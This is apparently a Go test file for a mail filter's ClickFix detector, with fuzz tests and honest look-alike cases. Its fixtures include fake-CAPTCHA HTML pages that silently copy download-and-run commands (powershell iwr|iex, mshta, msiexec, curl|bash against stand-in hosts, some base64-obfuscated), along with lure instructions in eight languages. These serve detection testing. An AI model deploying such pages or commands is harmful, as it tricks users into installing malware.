package heuristic

import (
	"regexp"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/message"
	"github.com/kensa-milter/kensa/showntext"
)

// clickfixPage is a page for clipboard-command: what Chromium's clipboard
// holds once every button is clicked (cmd, "" for an honest twin, which
// copies no command) is held to what the check says.
type clickfixPage struct {
	name, page string
	cmd        string // the start of the command the page copies; "" for a twin
}

// clickfixTricks are ClickFix pages as kits write them: the command
// written whole, built from pieces, decoded from base64, copied through
// a field, or run from a script the page decodes.
func clickfixTricks() []clickfixPage {
	return []clickfixPage{
		{"fake captcha, writeText in a handler", `<html><body><h2>Verify you are human</h2><p>1. Press Windows + R<br>2. Press CTRL + V<br>3. Press Enter</p>
<button onclick="navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr https://verify.example.net/a.ps1 | iex&quot;')">I'm not a robot</button></body></html>`, "powershell -w hidden"},
		{"how to fix, a field copied", `<html><body><div>Word could not display this document. Click "How to fix".</div><button id="b">How to fix</button><script>
document.getElementById('b').onclick=function(){var t=document.createElement('textarea');t.value=atob('cG93ZXJzaGVsbCAtZSBTUUJGQUZnQQ==');document.body.appendChild(t);t.select();document.execCommand('copy');}
</script></body></html>`, "powershell -e SQBFAFgA"},
		{"mshta with a decoy comment", `<html><body><script>
const c = "mshta https://verify.example.net/check.hta # I am not a robot - reCAPTCHA Verification ID: 4471";
function v(){ navigator.clipboard.writeText(c); }
</script><p>Press <b>Win</b>+<b>R</b>, then <b>Ctrl</b>+<b>V</b> and <b>Enter</b>.</p><button onclick="v()">Verify</button></body></html>`, "mshta https://verify.example.net/check.hta"},
		{"names and command in pieces", `<html><body><script>
var n = navigator, k = "clip"+"board";
var p = ["pow","ersh","ell"].join("") + " -nop -w 1 -c " + "\"irm https://verify.example.net/x|iex\"";
function go(){ n[k]["writeText"](p); }
</script><button onclick="go()">Verify</button></body></html>`, "powershell -nop -w 1"},
		{"filefix, a path after a padded comment", `<html><body><p>Copy the path, open File Explorer and paste it into the address bar.</p><button id="b">Copy</button>
<script>document.getElementById("b").addEventListener("click",function(){navigator.clipboard.writeText("powershell.exe -c ping example.com                                        # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx")})</script></body></html>`, "powershell.exe -c ping"},
		{"macOS terminal, script in base64", `<html><body><p>Open Terminal and paste.</p><script>
eval(atob("ZG9jdW1lbnQub25jbGljaz1mdW5jdGlvbigpe25hdmlnYXRvci5jbGlwYm9hcmQud3JpdGVUZXh0KCdjdXJsIC1mc1NMIGh0dHBzOi8vdmVyaWZ5LmV4YW1wbGUubmV0L2kuc2ggfCBiYXNoJyl9"))
</script><button>Fix</button></body></html>`, "curl -fsSL https://verify.example.net/i.sh | bash"},
		{"cmd and the copy event", `<html><body><script>
document.addEventListener("copy", function(e){ e.clipboardData.setData("text/plain", "cmd /c start /min msiexec /q /i https://verify.example.net/u.msi"); e.preventDefault(); });
function go(){ document.execCommand("copy"); }
</script><button onclick="go()">Copy code</button></body></html>`, "cmd /c start /min msiexec"},
	}
}

// clickfixTwins copy what they show, or show commands without copying.
func clickfixTwins() []clickfixPage {
	return []clickfixPage{
		{"copy button for an install line", `<html><body><h1>Install</h1><pre id="c">pip install requests</pre><script>
function cp(){ navigator.clipboard.writeText(document.getElementById("c").innerText); }
</script><button onclick="cp()">Copy</button></body></html>`, ""},
		{"copy a SQL field, a command in the text", `<html><body><script>
function copyCode(){ var t=document.getElementById("code"); t.select(); document.execCommand("copy"); }
</script><textarea id="code">SELECT * FROM accounts;</textarea><button onclick="copyCode()">Copy SQL</button><p>Run "cmd /c dir" or powershell -Command Get-Date in your shell.</p></body></html>`, ""},
		{"a command in script, never copied", `<html><body><script>
var help = "powershell -Command Get-Help"; document.getElementById && console.log(help);
</script><p>Help page</p></body></html>`, ""},
	}
}

func clickfixCases() map[string][]sample {
	var out []sample
	for _, c := range clickfixTricks() {
		out = append(out, sample{c.name, attach(htmlPart("2", c.page, named("Document.html"))), "2"})
	}
	out = append(out, sample{"svg", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><script>function f(){navigator.clipboard.writeText("powershell -ep bypass -c iex(irm verify.example.net/s)")}</script><text onclick="f()" y="20">Verify</text></svg>`, named("captcha.svg"))), "2"})
	for _, c := range clickfixTwins() {
		out = append(out, sample{c.name, attach(htmlPart("2", c.page, named("Document.html"))), ""})
	}
	// A mail body's scripts never run in a mail client.
	out = append(out, sample{"in a body", msg(htmlPart("1", clickfixTricks()[0].page)), ""})
	return map[string][]sample{"clipboard-command": out}
}

// clickfixTextCases: ClickFix instructions without a script, in a mail's
// text, a meeting's and an attached page's, in eight languages, and the
// help desks, guides and warnings that say the same.
func clickfixTextCases() map[string][]sample {
	const lure = "verify-team@captcha-check.test"
	mail := func(s string) *message.Message { return sentBy(lure, msg(text("1", s))) }
	return map[string][]sample{"clickfix-instructions": {
		{"fake CAPTCHA steps, nothing shown", mail("Verify you are human\n1. Press Windows Key + R\n2. Press CTRL + V\n3. Press Enter"), "1"},
		{"no pretext, a command shown", mail("To view the invoice press Win+R, paste the following and press Enter:\nmshta https://verify.test/c.hta"), "1"},
		{"the Windows symbol, nothing shown", mail("Complete the check: press ⊞ + R, then Ctrl + V, then Enter."), "1"},
		{"Win+X and PowerShell, a hidden command", mail("Press Win+X, choose Windows PowerShell, paste and press Enter:\npowershell -w hidden -c iex(iwr https://fix.test/f)"), "1"},
		{"macOS Terminal with a pretext", mail("I'm not a robot: press Command + Space, type Terminal, paste the command (Cmd+V) and press Return."), "1"},
		{"German", mail("Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie die Windows-Taste + R, fügen Sie mit Strg+V ein und drücken Sie Enter."), "1"},
		{"French", mail("Je ne suis pas un robot. Appuyez sur la touche Windows + R, collez (Ctrl+V) puis appuyez sur Entrée."), "1"},
		{"Spanish", mail("Para corregir el error: pulse la tecla de Windows + R, pegue con Ctrl+V y pulse Intro."), "1"},
		{"Portuguese", mail("Verificação: pressione a tecla Windows + R, cole com Ctrl+V e pressione Enter."), "1"},
		{"Italian", mail("Per risolvere il problema premi il tasto Windows + R, incolla con Ctrl+V e premi Invio."), "1"},
		{"Dutch", mail("Verificatie: druk op de Windows-toets + R, plak met Ctrl+V en druk op Enter."), "1"},
		{"Polish", mail("Weryfikacja: naciśnij klawisz Windows + R, wklej (Ctrl+V) i naciśnij Enter."), "1"},
		{"the Run dialog by name", mail("Open the Run dialog, paste the code we copied for you and press Enter to restore access."), "1"},
		{"open PowerShell, a command that runs a script from the web", mail("Open PowerShell, paste this line and press Enter:\npowershell -nop -c \"iex(irm https://update-check.test/u)\""), "1"},
		{"a developer's mail: a terminal, curl | sh from elsewhere", sentBy("jo@partner.example.com", msg(text("1", "To try it, open a terminal and paste:\ncurl -fsSL https://get.docker.com | sh"))), ""},
		{"an attached page's text", attach(htmlPart("2", "<html><body><h2>Verify you are human</h2><p>Press Windows + R, then CTRL + V, then Enter.</p></body></html>", named("Verify.html"))), "2"},
		{"a meeting invitation's description", invitation(lure, "", "SUMMARY:Security check", `DESCRIPTION:To join verify you are human: press Win+R\, press Ctrl+V and press Enter.`), "2/ics/event.txt"},
		// Honest twins.
		{"a help desk inside the company: a share's path", sentBy("it@corp.example.jp", toStaff("staff@corp.example.jp", msg(text("1", "To map the drive: press Win+R, paste \\\\fileserver\\share and press Enter.")))), ""},
		{"a help desk inside the company, nothing shown", sentBy("it@corp.example.jp", toStaff("staff@corp.example.jp", msg(text("1", "Press Win+R, paste the path from the wiki and press Enter.")))), ""},
		{"type winver", mail("To see your Windows version press Win+R, type winver and press Enter."), ""},
		{"a vendor's support: fix the error by a folder it shows", sentBy("support@vendor.example.com", msg(text("1", "To fix the error, press Win+R, paste %appdata%\\Vendor and press Enter, then delete the cache folder."))), ""},
		{"a vendor's install guide for macOS from its own site", sentBy("docs@vendor.example.com", msg(text("1", "Copy the command below, open Terminal (Command+Space, type Terminal), paste it with Command+V and press Return:\ncurl -fsSL https://get.vendor.example.com/install.sh | sh"))), ""},
		{"a vendor's Windows installer from its own site", sentBy("docs@vendor.example.com", msg(text("1", "Press Win+R, paste msiexec /i https://downloads.vendor.example.com/agent.msi and press Enter."))), ""},
		{"an awareness newsletter quoting the lure", sentBy("security@corp.example.jp", msg(text("1", "Security tip: attackers show a fake CAPTCHA that asks you to press Win+R, paste with Ctrl+V and press Enter to \"verify you are human\". Never do this."))), ""},
		{"awareness in German", sentBy("news@bank.example.de", msg(text("1", "Vorsicht vor Betrügern: Drücken Sie niemals Windows-Taste + R und fügen Sie mit Strg+V etwas ein, nur weil eine Seite Sie darum bittet (\"Ich bin kein Roboter\")."))), ""},
		// The steps after text that holds the openers' words many times
		// (each a place the expressions run), or spaced out.
		{"after many openers' words", mail(strings.Repeat("Win a window for the winter run with us! ", 400) + "\nVerify you are human: press Windows + R, then Ctrl + V, then Enter."), "1"},
		{"keys spaced out", mail("Verify you are human: press Windows" + strings.Repeat(" ", 300) + "+ R, then Ctrl + V, then Enter."), "1"},
		{"an opener far from the paste, then the steps", mail("Windows + R opens the run box.\n" + strings.Repeat("Nothing to do here. ", 40) + "\nVerify you are human: press Win+R, then Ctrl+V, then Enter."), "1"},
		{"Windows and R packages, paste your data", mail("We moved to Windows and R packages 4.3 this month. Please paste your data into the shared sheet by Friday."), ""},
	}}
}

// FuzzStepsNear holds stepsNear, which runs the openers' expressions only
// around their stems, to running them over the whole text: where some
// match of the whole text has a paste near, stepsNear finds one.
func FuzzStepsNear(f *testing.F) {
	for _, s := range []string{
		"verify you are human: press windows + r, then ctrl + v, then enter.",
		"open the run dialog, paste the code",
		"la touche windows + r, collez (ctrl+v)",
		"boite de dialogue « executer », collez",
		"win win win window +  x paste",
		"open powershell, paste this line",
		"press the windows keyandr, then ctrl+v",
		"touche windows etx puis collez",
		"windows logo key (⊞) + \u201cr\u201d and paste",
		"the winter window: win a prize, paste r",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		text := foldLure(s)
		for _, o := range []struct {
			stems []string
			re    *regexp.Regexp
		}{{runStems, clickfixRun}, {shellStems, clickfixShell}} {
			want := false
			for _, m := range o.re.FindAllStringIndex(text, -1) {
				want = want || pasteNear(text, m)
			}
			if got := stepsNear(text, o.stems, o.re); want && got == nil {
				t.Errorf("%q: %v finds an opening with a paste near in the whole text, stepsNear none", text, o.re)
			}
		}
	})
}

// stepsMarkup are ClickFix steps as markup can write them, for
// mayShowSteps: split by tags, letters spaced or entities, the Windows
// key as a symbol, in an image's alt text, in the Subject alone.
var stepsMarkup = []struct{ name, subject, page string }{
	{"plain", "", `<p>Press Windows + R, then Ctrl + V, then Enter.</p>`},
	{"split by tags", "", `<p>Press <b>W</b>in<i>dows</i> + <b>R</b>, then <span>Ct</span>rl + <b>V</b>.</p>`},
	{"entities", "", `<p>Press &#87;indows &#43; R, then Ctrl &#x2b; &#86;, then Enter.</p>`},
	{"the symbol", "", `<p>Press &#x229E; + R, then &#x2318; V</p>`},
	{"alt text", "", `<img alt="Press Win+R"><img alt="then paste (Ctrl+V)">`},
	{"a table moves text", "", `<table><tr>Press Win+R<td>x</td></tr></table><p>and paste it</p>`},
	{"the subject", "Verify: press Win+R and paste", `<p>Thank you</p>`},
	{"German", "", `<p>Drücken Sie die Windows-Taste + R, fügen Sie mit Strg+V ein.</p>`},
	{"the Run dialog", "", `<p>Open the <b>Run</b> dialog and <i>paste</i> the code.</p>`},
	{"a terminal", "", `<p>Open Terminal and paste the command (Cmd+V).</p>`},
}

// TestMayShowSteps: mayShowSteps passes markup whose shown text holds the
// steps, however written, and not markup that cannot.
func TestMayShowSteps(t *testing.T) {
	for _, c := range stepsMarkup {
		folded := foldLure(c.subject + "\n" + showntext.Text([]byte(c.page), maxClickFixText))
		if stepsNear(folded, runStems, clickfixRun) == nil && stepsNear(folded, shellStems, clickfixShell) == nil {
			t.Errorf("%s: no steps in %q", c.name, folded)
		}
		if !mayShowSteps(c.subject, []byte(c.page)) {
			t.Errorf("%s: mayShowSteps says no steps", c.name)
		}
	}
	for _, page := range []string{
		`<p>Our winter sale: win a trip! Copy the code SAVE10 at checkout.</p>`,
		`<p>Run the quarterly report and send it by Friday.</p><script>var paste = "win"</script>`,
		`<style>.ctrlv{color:red}</style><p class="ctrlv">Windows 11 is here.</p>`,
	} {
		if mayShowSteps("Newsletter", []byte(page)) {
			t.Errorf("mayShowSteps passes %q", page)
		}
	}
}

// FuzzMayShowSteps: whatever the markup, when the text a reader sees
// holds an opener with a paste near, mayShowSteps passes it.
func FuzzMayShowSteps(f *testing.F) {
	for _, c := range stepsMarkup {
		f.Add(c.subject, []byte(c.page))
	}
	f.Fuzz(func(t *testing.T, subject string, b []byte) {
		folded := foldLure(subject + "\n" + showntext.Text(b, maxClickFixText))
		if (stepsNear(folded, runStems, clickfixRun) != nil || stepsNear(folded, shellStems, clickfixShell) != nil) && !mayShowSteps(subject, b) {
			t.Fatalf("steps shown in %q, mayShowSteps says none", folded)
		}
	})
}
